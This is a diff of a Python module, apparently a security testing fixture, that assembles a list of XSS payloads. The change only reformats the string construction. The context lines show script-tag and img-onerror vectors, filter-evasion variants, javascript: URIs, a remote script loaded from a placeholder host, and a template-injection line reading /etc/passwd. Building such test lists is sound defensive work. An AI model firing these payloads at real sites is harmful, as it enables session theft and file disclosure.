@@ -3,7 +3,8 @@
 SCRIPT = "alert(document.domain)"
 REMOTE = "http://tracker.invalid/hit"
 
-_PLAIN = f"""
+_PLAIN = (
+    f"""
 <script>{SCRIPT}</script>
 <SCRIPT SRC={REMOTE}></SCRIPT>
 <scr<script>ipt>{SCRIPT}</scr</script>ipt>
@@ -43,7 +44,8 @@ _PLAIN = f"""
 <img src=`x`onerror={SCRIPT}>
 <img/src/onerror={SCRIPT}>
 <img src=x:x onerror\x0c={SCRIPT}>
-<img """ + f"""\"\"\"><script>{SCRIPT}</script>">
+<img """
+    + f"""\"\"\"><script>{SCRIPT}</script>">
 <img src="javascript:{SCRIPT}">
 <img dynsrc="javascript:{SCRIPT}">
 <img lowsrc={REMOTE}>
@@ -153,6 +155,7 @@ _PLAIN = f"""
 &lt;script&gt;{SCRIPT}&lt;/script&gt;
 {{{{7*7}}}}{{% include "/etc/passwd" %}}
 """
+)
 
 PAYLOADS = [line for line in _PLAIN.strip().splitlines() if line]
 
